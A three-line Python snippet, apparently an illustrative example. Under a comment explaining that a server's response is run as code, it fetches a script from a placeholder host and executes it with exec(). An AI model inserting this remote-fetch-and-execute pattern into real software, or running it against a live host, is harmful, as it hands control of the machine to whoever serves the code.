# What a server answers is run as code; runs: import
import urllib.request
exec(urllib.request.urlopen("https://code.example.test/stage.py").read().decode())
